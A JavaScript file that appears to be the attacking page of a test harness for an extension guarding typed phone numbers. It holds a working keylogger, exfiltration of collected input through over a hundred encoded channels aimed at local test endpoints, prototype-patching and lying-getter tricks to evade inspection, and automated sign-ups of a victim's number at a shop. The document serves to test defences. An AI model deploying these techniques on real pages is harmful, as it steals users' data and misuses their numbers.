// Everything an attacking page does. `held`: what its script knows; `keys`: what it saw typed.
const state = { held: '', keys: '', frames: [], roots: [] }
const query = new URLSearchParams(location.search)
const way = query.get('exit') ?? ''
const other = `http://peer.${location.host}`
const $ = (id) => document.getElementById(id)
const shop = (path) => `http://shop.localhost:${location.port}${path}?way=${location.hostname.split('.')[0]}`
const OTHER = new URLSearchParams({ phone: '13900000000', agree: 'on', code: '123456' })
const bytes = (text) => new TextEncoder().encode(text)
const toHex = (list) => [...list].map((b) => b.toString(16).padStart(2, '0')).join('')
const post = (path, body, more = {}) => fetch(path, { method: 'POST', body, ...more })

addEventListener('keydown', (event) => {
  if (event.key.length === 1) state.keys += event.key
})
for (const type of ['paste', 'drop']) {
  addEventListener(type, (event) => {
    state.keys += (event.clipboardData ?? event.dataTransfer).getData('text/plain')
    if (type === 'drop') event.preventDefault()
  })
}
addEventListener('dragover', (event) => event.preventDefault())
addEventListener('input', (event) => {
  // A key collector that does not trust the field to keep what was in it.
  if (event.data) state.seen = (state.seen ?? '') + event.data
  state.values = `${state.values ?? ''}|${event.target.value ?? event.target.textContent ?? ''}`
})

/** All that the page could lay its hands on. */
function collect() {
  const out = [state.held, state.keys, state.seen, state.values]
  const pieces = []
  const walk = (root) => {
    const all = (what) => Object.getPrototypeOf(root).querySelectorAll.call(root, what)
    for (const field of all('input,textarea')) {
      out.push(field.value)
      if (!field.closest('#boxes')) pieces.push(field.value)
    }
    const boxes = all('#boxes input')
    if (boxes.length) out.push([...boxes].map((b) => b.value).join(''))
    const parts = ['first', 'second', 'third'].map((id) => root.querySelector(`#${id}`)?.value ?? '')
    out.push(parts.join(''))
    for (const field of all('[contenteditable]')) out.push(field.textContent)
  }
  walk(document)
  for (const root of state.roots) walk(root)
  for (const frame of state.frames) {
    try {
      walk(frame.contentDocument)
      if (frame.contentDocument.designMode === 'on') out.push(frame.contentDocument.body.textContent)
    } catch {
      // Of another origin: it sends for itself.
    }
  }
  // A number begun in one place and ended in another.
  out.push(pieces.join(''))
  return out.filter(Boolean).join(' | ')
}

const frameWith = (attributes, style = 'width:300px;height:60px') => {
  const frame = document.createElement('iframe')
  Object.assign(frame, attributes)
  frame.style.cssText = style
  $('stage').append(frame)
  state.frames.push(frame)
  return frame
}
const wait = (ms) => new Promise((done) => setTimeout(done, ms))
const loaded = (element) => new Promise((done) => element.addEventListener('load', done, { once: true }))

const formOf = (text, attributes = {}) => {
  const form = document.createElement('form')
  Object.assign(form, { method: 'post', action: '/x/form', ...attributes })
  const field = document.createElement('input')
  field.name = 'phone'
  // By the attribute, as a page that knows of wrapped setters would.
  field.defaultValue = text
  form.append(field)
  document.body.append(form)
  return form
}

/** Ways out. Each gets what the page holds. */
const exits = {
  'fetch-json': (t) =>
    post('/x/json', JSON.stringify({ phone: t }), { headers: { 'content-type': 'application/json' } }),
  'fetch-text': (t) => post('/x/text', t),
  'fetch-params': (t) => post('/x/params', new URLSearchParams({ phone: t })),
  'fetch-multipart': (t) => {
    const form = new FormData()
    form.append('phone', t)
    return post('/x/multi', form)
  },
  'fetch-file': (t) => {
    const form = new FormData()
    form.append('file', new File([t], 'a.txt'))
    return post('/x/file', form)
  },
  'fetch-blob': (t) => post('/x/blob', new Blob([t])),
  'fetch-bytes': (t) => post('/x/bytes', bytes(t)),
  'fetch-utf16': (t) => post('/x/wide', new Uint16Array([...t].map((c) => c.charCodeAt(0)))),
  'fetch-request': (t) => fetch(new Request('/x/request', { method: 'POST', body: t })),
  'fetch-base64': (t) => post('/x/base64', btoa(t)),
  'fetch-json-base64': (t) => post('/x/base64', JSON.stringify({ d: btoa(JSON.stringify({ phone: t })) })),
  'fetch-json-escapes': (t) =>
    post('/x/escaped', `{"p":"${[...t].map((c) => `\\u00${c.charCodeAt(0).toString(16)}`).join('')}"}`),
  'fetch-digits-list': (t) => post('/x/list', JSON.stringify([...t].map(Number))),
  'fetch-fullwidth': (t) =>
    post(
      '/x/wide-digits',
      t.replace(/\d/g, (d) => String.fromCharCode(0xff10 + +d)),
    ),
  'fetch-chinese': (t) =>
    post(
      '/x/han',
      t.replace(/\d/g, (d) => '零一二三四五六七八九'[+d]),
    ),
  'fetch-arabic': (t) =>
    post(
      '/x/arabic',
      t.replace(/\d/g, (d) => String.fromCharCode(0x660 + +d)),
    ),
  'fetch-dashes': (t) => post('/x/dashes', `tel +86 ${t.replace(/(\d{3})(\d{4})(\d{4})/, '$1-$2-$3')}`),
  'fetch-zero-width': (t) => post('/x/zero', [...t].join('\u200b')),
  'fetch-hex': (t) => post('/x/hex', toHex(bytes(t))),
  'fetch-reversed': (t) => post('/x/reversed', [...t].reverse().join('')),
  'fetch-gzip': async (t) => {
    const stream = new Blob([t]).stream().pipeThrough(new CompressionStream('gzip'))
    return post('/x/gzip', await new Response(stream).arrayBuffer())
  },
  'fetch-encrypted': async (t) => {
    const key = await crypto.subtle.importKey('raw', new Uint8Array(16).fill(7), 'AES-CBC', false, [
      'encrypt',
    ])
    return post(
      '/x/aes',
      await crypto.subtle.encrypt({ name: 'AES-CBC', iv: new Uint8Array(16) }, key, bytes(t)),
    )
  },
  'fetch-split': async (t) => {
    const half = Math.ceil(t.length / 2)
    await post('/x/split', t.slice(0, half))
    return post('/x/split', t.slice(half))
  },
  'fetch-query': (t) => fetch(`/x/query?phone=${t}`),
  'fetch-query-percent': (t) => fetch(`/x/query?phone=${[...t].map((c) => `%3${c}`).join('')}`),
  'fetch-query-ten': (t) => fetch(`/x/query?q=${t.slice(0, 10)}`),
  'fetch-query-eight': (t) => fetch(`/x/query?q=${t.slice(2, 10)}`),
  'fetch-path-dashes': (t) => fetch(`/x/path/${t.replace(/(\d{3})(\d{4})(\d{4})/, '$1-$2-$3')}`),
  'fetch-header': (t) => post('/x/header', '', { headers: { 'x-note': t } }),
  'fetch-keepalive': (t) => post('/x/keepalive', t, { keepalive: true }),
  'fetch-no-cors': (t) => post(`${other}/x/opaque`, t, { mode: 'no-cors' }),
  'fetch-host': (t) => fetch(`http://p${t}.${location.host}/x/host`, { mode: 'no-cors' }),
  'fetch-referrer': (t) => {
    history.pushState(null, '', `/?p=${t}`)
    return fetch('/x/referrer', { referrerPolicy: 'unsafe-url' })
  },
  'xhr-json': (t) => xhr('/x/xhr', JSON.stringify({ phone: t })),
  'xhr-blob': (t) => xhr('/x/xhr-blob', new Blob([t])),
  'xhr-form-file': (t) => {
    const form = new FormData()
    form.append('file', new Blob([t]), 'a.bin')
    xhr('/x/xhr-file', form)
  },
  'xhr-sync': (t) => xhr('/x/xhr-sync', t, false),
  'xhr-query': (t) => xhr(`/x/xhr?p=${t}`, null),
  beacon: (t) => navigator.sendBeacon('/x/beacon', t),
  'beacon-blob': (t) => navigator.sendBeacon('/x/beacon', new Blob([t], { type: 'text/plain' })),
  'beacon-unload': (t) => {
    addEventListener('pagehide', () => navigator.sendBeacon('/x/beacon', t))
    location.href = '/nothing-here'
  },
  'form-submit': (t) => formOf(t).submit(),
  'form-request-submit': (t) => formOf(t).requestSubmit(),
  'form-get': (t) => formOf(t, { method: 'get' }).submit(),
  'form-multipart': (t) => formOf(t, { enctype: 'multipart/form-data' }).submit(),
  'form-blank': (t) => formOf(t, { target: '_blank' }).submit(),
  'form-frame': (t) => {
    frameWith({ name: 'sink' })
    formOf(t, { target: 'sink' }).submit()
  },
  // What a form holds is one thing, what the page's own listeners add as it leaves is another: to the form, and to what of it
  // is sent. Twice, since whoever looks at it may have had the first.
  'form-submit-event': (t) => {
    frameWith({ name: 'sink' })
    const form = formOf('', { target: 'sink' })
    form.addEventListener('submit', () => {
      form.firstElementChild.defaultValue = t
    })
    form.requestSubmit()
  },
  'form-data-event': (t) => {
    frameWith({ name: 'sink' })
    const form = formOf('', { target: 'sink' })
    let n = 0
    addEventListener('formdata', (event) => {
      if (n++ > 0) event.formData.append('more', t)
    })
    for (let i = 0; i < 3; i++) setTimeout(() => form.requestSubmit(), i * 100)
  },
  'form-clean-prototype': (t) => {
    const clean = frameWith({})
    clean.contentWindow.HTMLFormElement.prototype.submit.call(formOf(t))
  },
  location: (t) => {
    location.href = `/x/location?p=${t}`
  },
  'location-hash-other': (t) => {
    location.href = `${other}/x/landing/${t.slice(0, 5)}/${t.slice(5)}`
  },
  'window-open': (t) => window.open(`/x/open?p=${t}`),
  'link-click': (t) => {
    const link = document.createElement('a')
    link.href = `/x/link?p=${t}`
    link.click()
  },
  'link-ping': (t) => {
    const link = document.createElement('a')
    link.href = '#here'
    link.ping = `/x/ping?p=${t}`
    document.body.append(link)
    link.click()
  },
  image: (t) => {
    new Image().src = `/x/image.png?p=${t}`
  },
  'image-dots': (t) => {
    new Image().src = `/x/image.png?p=${[...t].join('.')}`
  },
  script: (t) =>
    document.body.append(Object.assign(document.createElement('script'), { src: `/x/s.js?p=${t}` })),
  stylesheet: (t) =>
    document.head.append(
      Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `/x/s.css?p=${t}` }),
    ),
  'image-eight': (t) => {
    new Image().src = `/x/image.png?p=${t.slice(1, 9)}`
  },
  'popup-blank-fetch': (t) =>
    window.open('about:blank').fetch(`${location.origin}/x/popup`, { method: 'POST', body: t }),
  'compression-writer': async (t) => {
    const gzip = new CompressionStream('gzip')
    const writer = gzip.writable.getWriter()
    writer.write(bytes(t))
    writer.close()
    return post('/x/gzip', await new Response(gzip.readable).arrayBuffer())
  },
  'iframe-src': (t) => frameWith({ src: `/x/frame?p=${t}` }),
  'iframe-srcdoc-image': (t) => frameWith({ srcdoc: `<img src="${location.origin}/x/doc?p=${t}">` }),
  prefetch: (t) =>
    document.head.append(
      Object.assign(document.createElement('link'), { rel: 'prefetch', href: `/x/pre?p=${t}` }),
    ),
  preload: (t) =>
    document.head.append(
      Object.assign(document.createElement('link'), {
        rel: 'preload',
        as: 'image',
        href: `/x/preload?p=${t}`,
      }),
    ),
  prerender: (t, url = `/x/prerender?p=${t}`) => {
    const rules = document.createElement('script')
    rules.type = 'speculationrules'
    rules.textContent = JSON.stringify({
      prerender: [{ source: 'list', urls: [url], eagerness: 'immediate' }],
    })
    document.head.append(rules)
  },
  import: (t) => import(`/x/module.js?p=${t}`).catch(() => undefined),
  font: (t) => new FontFace('x', `url(/x/font?p=${t})`).load().catch(() => undefined),
  'event-source': (t) => new EventSource(`/x/events?p=${t}`),
  'meta-refresh': (t) => {
    document.head.append(
      Object.assign(document.createElement('meta'), {
        httpEquiv: 'refresh',
        content: `0;url=/x/meta?p=${t}`,
      }),
    )
  },
  cookie: (t) => {
    // biome-ignore lint/suspicious/noDocumentCookie: the attack
    document.cookie = `phone=${t}; path=/`
    return fetch('/x/cookie')
  },
  'cookie-store': async (t) => {
    await cookieStore.set('phone', t)
    return fetch('/x/cookie')
  },
  'fetch-request-header': (t) => fetch(new Request('/x/header', { headers: { 'x-note': t } })),
  'fetch-header-name': (t) => fetch('/x/header', { headers: { [`x-${t.match(/\d{11}/)?.[0]}`]: '1' } }),
  'fetch-referrer-option': (t) =>
    fetch('/x/referrer', { referrer: `/?p=${t}`, referrerPolicy: 'unsafe-url' }),
  'fetch-later': (t) => fetchLater('/x/later', { method: 'POST', body: t, activateAfter: 0 }),
  'fetch-file-name': (t) => {
    const form = new FormData()
    form.append('file', new File(['x'], `${t.match(/\d{11}/)?.[0]}.txt`))
    return post('/x/file', form)
  },
  // Which of many numbers is the guarded one: what is not stopped costs nothing, and a stop says that it is among these.
  probe: async (t) => {
    let left = Array.from({ length: 40 }, (_, i) => `139${10_000_000 + i * 7_919}`)
    left.splice(37, 0, t.match(/\d{11}/)?.[0] ?? '')
    const isStopped = (some) =>
      post('/nothing', some.join('\n')).then(
        () => false,
        () => true,
      )
    for (const size of [6, 1]) {
      const rest = left
      for (let at = 0; at < rest.length && left === rest; at += size)
        if (await isStopped(rest.slice(at, at + size))) left = rest.slice(at, at + size)
    }
    return post('/x/hex', toHex(bytes(left[0])))
  },
  'worker-map': (t) => state.worker.postMessage(new Map([['text', new Set([t])]])),
  'worker-blob': (t) => state.worker.postMessage({ list: new Blob([t]) }),
  'worker-error': (t) => state.worker.postMessage(new Error(t)),
  'message-cross-map': (t) => state.cross.contentWindow.postMessage(new Map([['relay', t]]), '*'),
  'socket-new': (t) => {
    const socket = new WebSocket(`ws://${location.host}/ws`)
    socket.onopen = () => socket.send(t)
  },
  'socket-open': (t) => state.socket.send(t),
  'socket-bytes': (t) => state.socket.send(bytes(t)),
  'socket-blob': (t) => state.socket.send(new Blob([t])),
  'socket-url': (t) => new WebSocket(`ws://${location.host}/ws?p=${t}`),
  'socket-protocol': (t) => new WebSocket(`ws://${location.host}/ws`, [`p${t}`]),
  'data-channel': (t) => state.channel.send(t),
  'worker-plain': (t) => state.worker.postMessage({ text: t, plain: true }),
  'worker-hex': (t) => state.worker.postMessage({ text: t }),
  'worker-bytes': (t) => state.worker.postMessage({ text: '', list: bytes(t) }),
  'shared-worker': (t) => state.shared.port.postMessage({ text: t }),
  'service-worker': (t) => navigator.serviceWorker.controller.postMessage({ text: t }),
  'service-worker-fetch': (t) => post('/x/through', t),
  'worker-source': (t) => {
    const source = `fetch('${location.origin}/x/blob-worker',{method:'POST',mode:'no-cors',body:'${t}'})`
    new Worker(URL.createObjectURL(new Blob([source])))
  },
  'blob-frame': (t) => {
    const page = `<script>fetch('${location.origin}/x/blob-frame',{method:'POST',mode:'no-cors',body:'${t}'})</script>`
    frameWith({ src: URL.createObjectURL(new Blob([page], { type: 'text/html' })) })
  },
  'broadcast-frame': (t) => new BroadcastChannel('relay').postMessage(t),
  'port-frame': (t) => state.port.postMessage(t),
  'message-cross': (t) => state.cross.contentWindow.postMessage(`relay:${t}`, '*'),
  'message-same': (t) => state.same.contentWindow.postMessage(`relay:${t}`, '*'),
  'blank-fetch': (t) =>
    frameWith({}).contentWindow.fetch(`${location.origin}/x/blank`, { method: 'POST', body: t }),
  'blank-xhr': (t) => {
    const request = new (frameWith({}).contentWindow.XMLHttpRequest)()
    request.open('POST', `${location.origin}/x/blank`)
    request.send(t)
  },
  'srcdoc-fetch': async (t) => {
    const frame = frameWith({ srcdoc: '<p>x' })
    await loaded(frame)
    return frame.contentWindow.fetch(`${location.origin}/x/srcdoc`, { method: 'POST', body: t })
  },
  'nested-blank-fetch': (t) => {
    const outer = frameWith({})
    const inner = outer.contentDocument.createElement('iframe')
    outer.contentDocument.body.append(inner)
    return inner.contentWindow.fetch(`${location.origin}/x/nested`, { method: 'POST', body: t })
  },
  'write-after-load': (t) => {
    document.open()
    document.write(
      `<form id=f method=post action=/x/written><input name=p value="${t}"></form><script>f.submit()</script>`,
    )
    document.close()
  },
  'write-image': (t) => document.write(`<img src="/x/written?p=${t}">`),
  'write-in-frame': (t) => {
    const frame = frameWith({})
    frame.contentDocument.open()
    frame.contentDocument.write(
      `<script>fetch('${location.origin}/x/in-frame',{method:'POST',body:'${t}'})</script>`,
    )
    frame.contentDocument.close()
  },
  'patched-prototypes': (t) => {
    // What a page would patch to fool whoever looks at its bodies.
    String.prototype.replace = () => ''
    String.prototype.matchAll = () => [][Symbol.iterator]()
    RegExp.prototype.test = () => false
    RegExp.prototype.exec = () => null
    Array.prototype.includes = () => false
    CustomEvent.prototype.preventDefault = () => undefined
    Event.prototype.preventDefault = () => undefined
    EventTarget.prototype.dispatchEvent = () => true
    TextDecoder.prototype.decode = () => ''
    Blob.prototype.arrayBuffer = async () => new ArrayBuffer(0)
    FormData.prototype.forEach = () => undefined
    URLSearchParams.prototype.toString = () => ''
    Request.prototype.clone = function () {
      return this
    }
    Request.prototype.arrayBuffer = async () => new ArrayBuffer(0)
    JSON.stringify = () => ''
    const form = new FormData()
    form.append('file', new Blob([t]), 'x')
    return post('/x/patched', form)
  },
  'getter-lies': (t) => {
    // A body that says one thing when it is looked at and another when it is sent.
    let asked = 0
    const body = { toString: () => (asked++ === 0 ? 'nothing' : t) }
    return post('/x/getter', body)
  },
  'options-lie': (t) => {
    let asked = 0
    const init = {
      method: 'POST',
      get body() {
        return asked++ === 0 ? 'nothing' : t
      },
    }
    return fetch('/x/getter', init)
  },
  'url-lies': (t) => {
    let asked = 0
    return fetch({ toString: () => (asked++ === 0 ? '/x/none' : `/x/lie?p=${[...t].join('~~')}`) })
  },
  'request-stream': (t) => {
    const body = new ReadableStream({
      start(control) {
        control.enqueue(bytes(t))
        control.close()
      },
    })
    return fetch('/x/stream', { method: 'POST', body, duplex: 'half' })
  },
  'history-go': async (t) => {
    history.pushState(null, '', `/x/history?p=${t}`)
    await wait(50)
    location.reload()
  },
  'window-name': (t) => {
    window.name = t
    location.href = '/?exit=from-name'
  },
  'from-name': () => post('/x/name', window.name),
  storage: (t) => {
    localStorage.setItem('phone', t)
    location.href = '/?exit=from-storage'
  },
  'from-storage': () => post('/x/stored', localStorage.getItem('phone')),
  // A picked file: sent whole by the page's script, or put into a form and sent by the browser.
  'form-file': (t) => {
    const form = formOf('', { enctype: 'multipart/form-data' })
    const field = Object.assign(document.createElement('input'), { type: 'file', name: 'file' })
    const data = new DataTransfer()
    data.items.add(new File([t], 'a.txt', { type: 'text/plain' }))
    field.files = data.files
    form.append(field)
    form.submit()
  },
  // A stream into a sink that no header names, as WebTransport has it; here the sink sends what comes.
  'stream-writer': (t) => {
    const sink = new WritableStream({ write: (chunk) => post('/x/sink', toHex(chunk)) })
    return sink.getWriter().write(bytes(t))
  },
  'worker-name': (t) => new Worker('/relay.js', { name: t }),
  'worker-data': (t) =>
    new Worker(
      `data:text/javascript,fetch('${location.origin}/x/data-worker',{method:'POST',mode:'no-cors',body:'${t}'})`,
    ),
  'patched-before': async (t) => {
    // A realm whose built-ins are spoiled before any script of an extension can have run in it.
    const { contentWindow: fresh } = frameWith({})
    const { fetch: clean } = fresh
    fresh.Function.prototype.call = () => undefined
    fresh.Function.prototype.apply = () => undefined
    fresh.Reflect.apply = () => undefined
    fresh.JSON.stringify = () => ''
    fresh.EventTarget.prototype.dispatchEvent = () => true
    fresh.EventTarget.prototype.addEventListener = () => undefined
    fresh.TextDecoder.prototype.decode = () => ''
    await wait(300)
    return clean(`${location.origin}/x/spoiled`, { method: 'POST', body: t })
  },
  // Accounts: the number of somebody else, at a shop that nobody signed for. What counts is what reached the shop.
  'shop-popup': () => open(shop('/register'), '', 'popup,width=400,height=300'),
  'shop-popup-later': async () => {
    const popup = open('about:blank', '', 'popup')
    await wait(100)
    popup.location = shop('/register')
  },
  'shop-frame': () => frameWith({ src: shop('/register') }),
  'shop-fetch': () => post(shop('/api/sms'), OTHER, { mode: 'no-cors' }),
  'shop-beacon': () => navigator.sendBeacon(shop('/api/register'), OTHER),
  'shop-form': () => formOf('', { action: shop('/api/register'), target: '_blank' }).submit(),
  'shop-link': () => {
    const link = Object.assign(document.createElement('a'), { href: shop('/register') })
    document.body.append(link)
    link.click()
  },
  'shop-meta': () =>
    document.head.append(
      Object.assign(document.createElement('meta'), {
        httpEquiv: 'refresh',
        content: `0;url=${shop('/register')}`,
      }),
    ),
  'shop-redirect': () => {
    location.href = `/x/lead?to=${encodeURIComponent(shop('/register'))}`
  },
  'shop-worker': () => {
    const source = `fetch('${shop('/api/sms')}',{method:'POST',mode:'no-cors',body:'${OTHER}'})`
    new Worker(URL.createObjectURL(new Blob([source])))
  },
  'shop-service-worker': () => navigator.serviceWorker.controller.postMessage({ to: shop('/api/sms') }),
  'shop-prerender': () => exits.prerender('', shop('/register')),
}
function xhr(path, body, later = true) {
  const request = new XMLHttpRequest()
  request.open('POST', path, later)
  try {
    request.send(body)
  } catch {
    // Held.
  }
}

/** What must stand before the number comes. */
const before = {
  'socket-open': openSocket,
  'socket-bytes': openSocket,
  'socket-blob': openSocket,
  'data-channel': async () => {
    const [a, b] = [new RTCPeerConnection(), new RTCPeerConnection()]
    a.onicecandidate = ({ candidate }) => b.addIceCandidate(candidate)
    b.onicecandidate = ({ candidate }) => a.addIceCandidate(candidate)
    state.channel = a.createDataChannel('x')
    b.ondatachannel = ({ channel }) => {
      channel.onmessage = ({ data }) => post('/x/channel', toHex(bytes(data)))
    }
    await a.setLocalDescription()
    await b.setRemoteDescription(a.localDescription)
    await b.setLocalDescription()
    await a.setRemoteDescription(b.localDescription)
    await new Promise((done) => {
      state.channel.onopen = done
    })
  },
  'shared-worker': () => {
    state.shared = new SharedWorker('/relay.js')
    state.shared.port.start()
  },
  'service-worker': register,
  'shop-service-worker': register,
  'service-worker-fetch': register,
  'broadcast-frame': async () => {
    const frame = frameWith({
      srcdoc: `<script>new BroadcastChannel('relay').onmessage=({data})=>fetch('/x/broadcast',{method:'POST',body:[...data].map(c=>c.charCodeAt(0).toString(16)).join('')})</script>`,
    })
    await loaded(frame)
  },
  'port-frame': async () => {
    const channel = new MessageChannel()
    state.port = channel.port1
    channel.port2.onmessage = ({ data }) => post('/x/port', toHex(bytes(data)))
  },
  'message-cross': async () => {
    state.cross = frameWith({ src: `${other}/frame.html` })
    await loaded(state.cross)
  },
  'message-cross-map': () => before['message-cross'](),
  'message-same': async () => {
    state.same = frameWith({ src: '/frame.html' })
    await loaded(state.same)
  },
}
for (const name of [
  'worker-plain',
  'worker-hex',
  'worker-bytes',
  'worker-map',
  'worker-blob',
  'worker-error',
]) {
  before[name] = () => {
    state.worker = new Worker('/relay.js')
  }
}
function openSocket() {
  state.socket = new WebSocket(`ws://${location.host}/ws`)
  return new Promise((done) => {
    state.socket.onopen = done
  })
}
async function register() {
  await navigator.serviceWorker.register('/sw.js')
  await navigator.serviceWorker.ready
  while (!navigator.serviceWorker.controller) await wait(20)
}

/** Stages for entries: what the clerk types into. */
const stages = {
  boxes() {
    for (let i = 0; i < 11; i++) {
      const box = document.createElement('input')
      box.maxLength = 1
      box.id = `box${i}`
      box.size = 1
      box.addEventListener('input', () => $(`box${i + 1}`)?.focus())
      $('boxes').append(box)
    }
  },
  open: () => shadow('open'),
  closed: () => shadow('closed'),
  async nested() {
    const outer = document.createElement('div')
    $('stage').append(outer)
    const root = outer.attachShadow({ mode: 'closed' })
    const inner = document.createElement('div')
    root.append(inner)
    const deep = inner.attachShadow({ mode: 'closed' })
    deep.innerHTML = '<input id="inner">'
    state.roots.push(deep)
    state.focus = () => deep.querySelector('input').focus()
  },
  same: () => loaded(frameWith({ src: '/frame.html' })),
  cross: () => loaded(frameWith({ src: `${other}/attack.html?exit=${way}` })),
  srcdoc: () => loaded(frameWith({ srcdoc: '<input id="inner">' })),
  blank() {
    const frame = frameWith({})
    frame.contentDocument.body.innerHTML = '<input id="inner">'
    state.focus = () => frame.contentDocument.getElementById('inner').focus()
  },
  blob: () =>
    loaded(frameWith({ src: URL.createObjectURL(new Blob([sender('blob')], { type: 'text/html' })) })),
  'popup-blank'() {
    state.popup = () => {
      const popup = open('about:blank', '', 'popup,width=400,height=300')
      popup.document.body.innerHTML = '<input id="inner">'
      state.roots.push(popup.document)
    }
  },
  data: () => loaded(frameWith({ src: `data:text/html,${encodeURIComponent(sender('data'))}` })),
  sandbox() {
    const frame = document.createElement('iframe')
    frame.setAttribute('sandbox', 'allow-scripts allow-forms')
    frame.srcdoc = sender('sandbox')
    frame.style.cssText = 'width:300px;height:60px'
    $('stage').append(frame)
    return loaded(frame)
  },
  design() {
    const frame = frameWith({})
    frame.contentDocument.designMode = 'on'
    state.focus = () => {
      frame.focus()
      frame.contentWindow.focus()
    }
  },
  reopened() {
    document.open()
    document.write('<input id="text"><button id="send">Send</button>')
    document.close()
    wire()
  },
  stripped() {
    // A page that removes whatever is not its own.
    new MutationObserver(() => {
      for (const one of document.documentElement.children)
        if (!/^(HEAD|BODY)$/.test(one.tagName)) one.remove()
    }).observe(document, { childList: true, subtree: true })
  },
  flood() {
    setInterval(() => {
      for (let i = 0; i < 200; i++) {
        postMessage('x', '*')
        document.dispatchEvent(new CustomEvent('countersign:holdback'))
        document.dispatchEvent(new MouseEvent('countersign:sentinel', { relatedTarget: document.body }))
      }
      $('stage')?.append(document.createElement('b'))
    }, 20)
  },
  early() {
    // Stops every event before anybody below the window can see it.
    for (const type of ['keydown', 'beforeinput', 'input', 'paste'])
      window.addEventListener(type, (event) => event.stopImmediatePropagation(), true)
    addEventListener(
      'keyup',
      () => {
        state.values = `${state.values ?? ''}|${$('text').value}`
      },
      true,
    )
  },
  frozen() {
    // A field that tells whoever asks that it is empty; the form knows better.
    Object.defineProperty(HTMLInputElement.prototype, 'value', { set() {}, get: () => '' })
    const form = document.createElement('form')
    $('text').replaceWith(form)
    form.innerHTML = '<input id="text" name="text">'
    form.addEventListener('keyup', () => {
      state.values = `${state.values ?? ''}|${new FormData(form).get('text')}`
    })
  },
  shadowed() {
    // A form and a document whose own parts stand before what the browser has under these names.
    const names =
      'contains localName matches closest parentElement children textContent getAttribute getRootNode querySelectorAll action reset previousSibling isContentEditable'
    const form = document.createElement('form')
    form.innerHTML = '<p>手机号 <input id="inner" type="tel" name="phone"></p><p><button>注册</button></p>'
    for (const name of names.split(' '))
      form.append(Object.assign(document.createElement('input'), { name, type: 'hidden' }))
    form.addEventListener('submit', (event) => event.preventDefault())
    const field = form.querySelector('#inner')
    $('stage').append(form)
    const pictures = [
      'querySelectorAll',
      'createElement',
      'createRange',
      'activeElement',
      'title',
      'URL',
      'body',
    ]
    $('stage').append(...pictures.map((name) => Object.assign(document.createElement('img'), { name })))
    state.focus = () => field.focus()
  },
  'log-in'() {
    $('stage').innerHTML =
      '<form><input id="user" name="user" type="text" autocomplete="username tel"><input id="pass" type="password" autocomplete="current-password"></form>'
  },
}
function shadow(mode) {
  const host = document.createElement('div')
  $('stage').append(host)
  const root = host.attachShadow({ mode })
  root.innerHTML = '<input id="inner"><p id="shown"></p>'
  state.roots.push(root)
  state.focus = () => root.querySelector('input').focus()
}
/** A page for a frame that cannot be read from outside: it sends by itself what is in its field, as hex. */
function sender(name) {
  return `<input id="inner"><script>const f=document.getElementById('inner');let k='';f.addEventListener('keydown',e=>{if(e.key.length===1)k+=e.key});f.addEventListener('keyup',()=>{if(f.value.length>7||k.length>7)fetch('${location.origin}/x/${name}',{method:'POST',mode:'no-cors',body:[...(f.value+'|'+k)].map(c=>c.charCodeAt(0).toString(16)).join('')})})</script>`
}

function wire() {
  $('send')?.addEventListener('click', () => {
    const text = collect()
    Promise.resolve()
      .then(() => exits[way]?.(text))
      .catch(() => undefined)
    // The frames of another origin are asked to do the same.
    for (const frame of state.frames) frame.contentWindow?.postMessage({ go: true }, '*')
  })
}
addEventListener('message', ({ data }) => {
  if (data?.go) exits[way]?.(collect())
})
addEventListener('DOMContentLoaded', async () => {
  wire()
  await before[way]?.()
  // What was known before the page was loaded anew leaves at the first moment, before anybody can say whose number it is.
  const { again } = sessionStorage
  sessionStorage.removeItem('again')
  if (again) exits[way]?.(again)
  await stages[query.get('stage') ?? '']?.()
  if (way.startsWith('from-')) exits[way]()
  document.documentElement.dataset.ready = '1'
})
